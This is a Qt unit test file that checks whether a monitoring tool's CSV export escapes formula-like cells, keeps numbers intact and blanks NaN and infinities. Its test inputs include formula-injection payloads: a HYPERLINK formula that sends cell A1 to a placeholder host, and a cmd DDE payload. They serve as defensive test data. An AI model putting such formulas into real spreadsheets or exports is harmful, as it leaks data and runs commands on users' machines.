// SPDX-FileCopyrightText: 2026 The Headroom authors
// SPDX-License-Identifier: GPL-3.0-or-later

// CSV cells as a spreadsheet would read them: text that starts like a formula (=, +, -,
// @, tab, carriage return) is escaped with a leading quote and quoted, plain numbers stay
// numbers, NaN and infinities are empty cells; and the same through the panel CSV and
// the alert CSV, whose text comes from exporters and dashboard files.
#include "core/csvcell.h"
#include "query/alerts/alertcsv.h"
#include "query/csvexport.h"

#include <QTest>
#include <limits>

using namespace Headroom;
using namespace Qt::StringLiterals;

class TestCsvCell : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void text_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("cell");
        QTest::newRow("plain") << u"host.cpu.utilization"_s << u"host.cpu.utilization"_s;
        QTest::newRow("empty") << QString() << QString();
        QTest::newRow("comma") << u"a,b"_s << u"\"a,b\""_s;
        QTest::newRow("quote") << u"say \"hi\""_s << u"\"say \"\"hi\"\"\""_s;
        QTest::newRow("newline") << u"a\nb"_s << u"\"a\nb\""_s;
        QTest::newRow("equals") << u"=1+2"_s << u"\"'=1+2\""_s;
        QTest::newRow("hyperlink") << u"=HYPERLINK(\"http://x/?\"&A1,\"click\")"_s
                                   << u"\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""_s;
        QTest::newRow("plus") << u"+cmd|' /C calc'!A0"_s << u"\"'+cmd|' /C calc'!A0\""_s;
        QTest::newRow("minus") << u"-2+3"_s << u"\"'-2+3\""_s;
        QTest::newRow("at") << u"@SUM(A1:A9)"_s << u"\"'@SUM(A1:A9)\""_s;
        QTest::newRow("tab") << u"\t=1"_s << u"\"'\t=1\""_s;
        QTest::newRow("carriage return") << u"\r=1"_s << u"\"'\r=1\""_s;
        QTest::newRow("formula later") << u"a=1"_s << u"a=1"_s;
        QTest::newRow("negative number") << u"-3.5"_s << u"-3.5"_s;
        QTest::newRow("signed number") << u"+1e-9"_s << u"+1e-9"_s;
        QTest::newRow("negative fraction") << u"-.5"_s << u"-.5"_s;
        QTest::newRow("minus inf") << u"-inf"_s << u"\"'-inf\""_s;
        QTest::newRow("number then space") << u"-3 "_s << u"\"'-3 \""_s;
        QTest::newRow("lone minus") << u"-"_s << u"\"'-\""_s;
    }

    void text()
    {
        QFETCH(QString, field);
        QFETCH(QString, cell);
        QCOMPARE(csvText(field), cell);
    }

    void number_data()
    {
        QTest::addColumn<double>("value");
        QTest::addColumn<QString>("cell");
        QTest::newRow("integer") << 42.0 << u"42"_s;
        QTest::newRow("negative") << -3.5 << u"-3.5"_s;
        QTest::newRow("shortest") << 0.1 << u"0.1"_s;
        QTest::newRow("tiny") << 1e-300 << u"1e-300"_s;
        QTest::newRow("nan") << std::numeric_limits<double>::quiet_NaN() << QString();
        QTest::newRow("inf") << std::numeric_limits<double>::infinity() << QString();
        QTest::newRow("-inf") << -std::numeric_limits<double>::infinity() << QString();
    }

    void number()
    {
        QFETCH(double, value);
        QFETCH(QString, cell);
        QCOMPARE(csvNumber(value), cell);
    }

    // An exporter's metric and label values, and gauges of NaN and +Inf, as they reach
    // an exported file.
    void panelRows()
    {
        PanelData data;
        data.panelId = u"p"_s;
        PanelSeriesData s;
        s.info.key = { u"=src"_s, u"@metric"_s, { { u"job"_s, u"=cmd|x"_s } } };
        s.info.unit = u"-"_s;
        s.points = { { 0, -3.5 },
                     { 1000, std::numeric_limits<double>::quiet_NaN() },
                     { 2000, std::numeric_limits<double>::infinity() } };
        data.series.append(s);
        const QList<QByteArray> lines = csvRows(data).split('\n');
        QCOMPARE(lines.size(), 4);
        QCOMPARE(lines[0],
                 QByteArray("1970-01-01T00:00:00.000Z,p,\"'=src\",\"'@metric\",{job=\\=cmd|x},-3.5,"
                            "\"'-\"\r"));
        QVERIFY2(lines[1].endsWith(",{job=\\=cmd|x},,\"'-\"\r"), lines[1].constData());
        QVERIFY2(lines[2].endsWith(",{job=\\=cmd|x},,\"'-\"\r"), lines[2].constData());
    }

    void alertRows()
    {
        AlertEvent e;
        e.ruleId = u"=rule"_s;
        e.series = { u"s"_s, u"m"_s, {} };
        e.state = AlertState::Firing;
        e.value = std::numeric_limits<double>::infinity();
        e.message = u"+1 = bad"_s;
        AlertEvent negative = e;
        negative.value = -2;
        const QList<QByteArray> lines = alertCsv({ e, negative }).split('\n');
        QCOMPARE(lines[1],
                 QByteArray("1970-01-01T00:00:00.000Z,\"'=rule\",s/m,firing,,warning,"
                            "\"'+1 = bad\"\r"));
        QVERIFY2(lines[2].contains(",firing,-2,warning,"), lines[2].constData());
    }
};

QTEST_GUILESS_MAIN(TestCsvCell)
#include "tst_csvcell.moc"
